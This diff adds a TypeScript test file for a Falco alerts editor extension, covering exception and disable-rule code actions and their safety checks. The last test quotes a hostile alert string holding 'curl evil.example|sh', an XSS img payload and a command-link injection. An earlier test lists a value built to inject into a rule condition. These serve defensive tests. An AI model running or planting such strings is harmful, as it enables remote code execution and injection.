@@ -1,0 +1,135 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import { parseDocument } from 'yaml';
+import { TextDocument } from 'vscode-languageserver-textdocument';
+import { DiagnosticSeverity, type CodeAction, type TextDocumentEdit, type WorkspaceEdit } from 'vscode-languageserver-types';
+import { createAlertsService } from '../../server/src/service/alerts';
+import { createRulesService } from '../../server/src/service/rules';
+import { planException, isSafeExceptionValue, type ExceptionProposal, EXCEPTION_SHAPES } from '../../server/src/service/alerts/tuning';
+import { COPY_TO_CLIPBOARD_COMMAND, SHOW_MARKDOWN_COMMAND } from '../../server/src/protocol';
+import { pathToUri } from '../../server/src/service/uri';
+import { TestHost, alertDoc, fakeRules, fixture, ruleSummaries, hostileProblems, corpusExists, STABLE_RULES } from '../fixtures/alerts/helpers';
+
+const LOCAL = '/work/ws/falco_rules.local.yaml';
+
+/** A host whose files come from memory first, then from disk (the corpus rules). */
+class DiskHost extends TestHost {
+  readFile(p: string) { return this.files.get(p) ?? (fs.existsSync(p) ? fs.readFileSync(p, 'utf8') : undefined); }
+}
+
+function apply(text: string, edit: WorkspaceEdit): string {
+  const change = edit.documentChanges!.find((c) => 'edits' in c) as TextDocumentEdit;
+  const doc = TextDocument.create('file:///x', 'yaml', 1, text);
+  return TextDocument.applyEdits(doc, change.edits as { range: never; newText: string }[]);
+}
+
+function actionsFor(s: ReturnType<typeof createAlertsService>, name: string, text: string, line: number): CodeAction[] {
+  return s.codeActions!(alertDoc(name, text), { start: { line, character: 0 }, end: { line, character: 0 } }, { diagnostics: [] });
+}
+
+test('"Add exception" writes an override that the rules service validates with zero errors and that matches exactly this alert', { skip: !corpusExists && 'corpus absent' }, () => {
+  const host = new DiskHost();
+  host.config = { ...host.config, rules: { ...host.config.rules, files: [STABLE_RULES] } };
+  const rules = createRulesService(host);
+  const s = createAlertsService(host, rules);
+  const json = fixture('falco-0.44.json');
+  const actions = actionsFor(s, 'a.json', json, 1);
+  const add = actions.filter((a) => a.title.startsWith('Add exception'));
+  assert.ok(add.length >= 2, actions.map((a) => a.title).join('\n'));
+  const parent = add.find((a) => a.title.includes('process + parent'))!;
+  assert.equal(parent.title, 'Add exception for this process + parent (ln, bash) to falco_rules.local.yaml');
+  const changes = parent.edit!.documentChanges!;
+  assert.deepEqual(changes[0], { kind: 'create', uri: pathToUri(LOCAL), options: { ignoreIfExists: true } });
+  const once = apply('', parent.edit!);
+  const errors = rules.validateText(pathToUri(LOCAL), once).filter((d) => d.severity === DiagnosticSeverity.Error);
+  assert.deepEqual(errors.map((d) => d.message), []);
+  const items = parseDocument(once).toJSON();
+  assert.deepEqual(items, [{
+    rule: 'Create Symlink Over Sensitive Files',
+    exceptions: [{ name: 'falco_lens_proc_name_and_proc_pname', fields: ['proc.name', 'proc.pname'], comps: ['=', '='], values: [['ln', 'bash']] }],
+    override: { exceptions: 'append' },
+  }]);
+  // Applying the same fix again changes nothing: the action is no longer offered.
+  host.files.set(LOCAL, once);
+  const again = actionsFor(s, 'a.json', json, 1).filter((a) => a.title.includes('process + parent'));
+  assert.deepEqual(again, []);
+  // Another exception of the same rule is merged into the existing override item.
+  const file = actionsFor(s, 'a.json', json, 1).find((a) => a.title.includes('link target + process'))!;
+  const twice = apply(once, file.edit!);
+  assert.ok(twice.startsWith(once.slice(0, once.indexOf('  override:'))), 'existing content kept');
+  const merged = parseDocument(twice).toJSON();
+  assert.equal(merged.length, 1);
+  assert.deepEqual(merged[0].exceptions.map((e: { name: string }) => e.name), ['falco_lens_proc_name_and_proc_pname', 'falco_lens_evt_arg_target_and_proc_name']);
+  assert.deepEqual(rules.validateText(pathToUri(LOCAL), twice).filter((d) => d.severity === DiagnosticSeverity.Error).map((d) => d.message), []);
+});
+
+test('the same exception for another alert appends a values row to the existing exception', () => {
+  const proposal = (values: string[]): ExceptionProposal => ({ rule: 'R', shape: EXCEPTION_SHAPES[1], name: 'falco_lens_proc_name_and_proc_pname', values });
+  const first = planException('', proposal(['ln', 'bash']));
+  assert.equal(first.kind, 'insert');
+  const text = first.kind === 'insert' ? first.insertion.text : '';
+  const second = planException(text, proposal(['cp', 'sh']));
+  assert.equal(second.kind, 'insert');
+  const after = second.kind === 'insert' ? text.slice(0, second.insertion.offset) + second.insertion.text + text.slice(second.insertion.offset) : '';
+  assert.deepEqual(parseDocument(after).toJSON()[0].exceptions[0].values, [['ln', 'bash'], ['cp', 'sh']]);
+  assert.equal(planException(after, proposal(['cp', 'sh'])).kind, 'present');
+  // Values are YAML-quoted: quotes and colons survive a round trip.
+  const odd = planException('', { ...proposal(['a: b #c', 'x']) });
+  assert.deepEqual(parseDocument(odd.kind === 'insert' ? odd.insertion.text : '').toJSON()[0].exceptions[0].values, [['a: b #c', 'x']]);
+});
+
+test('values that Falco would splice unescaped into the condition are refused', () => {
+  for (const bad of ['x" or proc.name exists or "', "it's", 'a,b', 'f(x)', 'back\\slash', ' lead', '']) assert.equal(isSafeExceptionValue(bad), false, bad);
+  for (const good of ['/usr/bin/ln', 'docker.io/library/nginx', 'my proc', 'name:tag']) assert.equal(isSafeExceptionValue(good), true, good);
+});
+
+test('"Disable rule" is offered as the last resort, once; playbook, investigation command and report are commands', { skip: !corpusExists && 'corpus absent' }, () => {
+  const host = new TestHost();
+  const s = createAlertsService(host, fakeRules(ruleSummaries(STABLE_RULES)));
+  const json = fixture('falco-0.44.json');
+  const actions = actionsFor(s, 'a.json', json, 0);
+  const disable = actions.find((a) => a.title.startsWith('Disable rule'))!;
+  assert.match(disable.title, /last resort/);
+  const text = apply('', disable.edit!);
+  assert.deepEqual(parseDocument(text).toJSON(), [{ rule: 'Drop and execute new binary in container', enabled: false, override: { enabled: 'replace' } }]);
+  host.files.set(LOCAL, text);
+  assert.equal(actionsFor(s, 'a.json', json, 0).filter((a) => a.title.startsWith('Disable rule')).length, 0);
+  const playbook = actions.find((a) => a.title.startsWith('Open playbook'));
+  if (playbook) {
+    assert.equal(playbook.command!.command, SHOW_MARKDOWN_COMMAND);
+    assert.match(String(playbook.command!.arguments![0]), /^# Playbook: /);
+  }
+  const copy = actions.find((a) => a.title === 'Copy investigation command');
+  if (copy) {
+    assert.equal(copy.command!.command, COPY_TO_CLIPBOARD_COMMAND);
+    assert.equal(copy.command!.arguments![1], 'investigation command');
+  }
+  const report = actions.find((a) => a.title === 'Generate incident report for this alert')!;
+  assert.equal(report.command!.command, SHOW_MARKDOWN_COMMAND);
+  assert.match(String(report.command!.arguments![0]), /^# Falco incident report/);
+  const selection = s.codeActions!(alertDoc('a.json', json), { start: { line: 0, character: 0 }, end: { line: 2, character: 5 } }, { diagnostics: [] });
+  assert.ok(selection.some((a) => a.title === 'Generate incident report for the 3 selected alerts'));
+});
+
+test('a hostile alert gives inert, one-line code-action titles and single-quoted shell commands', () => {
+  const rules = corpusExists ? ruleSummaries(STABLE_RULES) : [{ name: 'Create Symlink Over Sensitive Files', source: 'syscall', tags: [], enabled: true }];
+  const s = createAlertsService(new TestHost(), fakeRules(rules));
+  const text = fixture('falco-hostile.log');
+  for (const line of [0, 1]) {
+    const actions = actionsFor(s, 'h.log', text, line);
+    assert.ok(actions.length >= 2);
+    for (const a of actions) {
+      assert.ok(!/[\r\n]/.test(a.title) && !a.title.includes('$(') && a.title.length <= 160, a.title);
+      if (a.command?.command === SHOW_MARKDOWN_COMMAND) assert.deepEqual(hostileProblems(String(a.command.arguments![0])), []);
+      if (a.command?.command === COPY_TO_CLIPBOARD_COMMAND) {
+        const script = String(a.command.arguments![0]);
+        assert.ok(!script.includes('$(curl') || script.includes("'sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o'"), script);
+      }
+      if (a.edit) {
+        const yaml = apply('', a.edit);
+        assert.ok(!yaml.includes('$(curl'), 'the hostile command line is never written into an exception');
+      }
+    }
+  }
+});
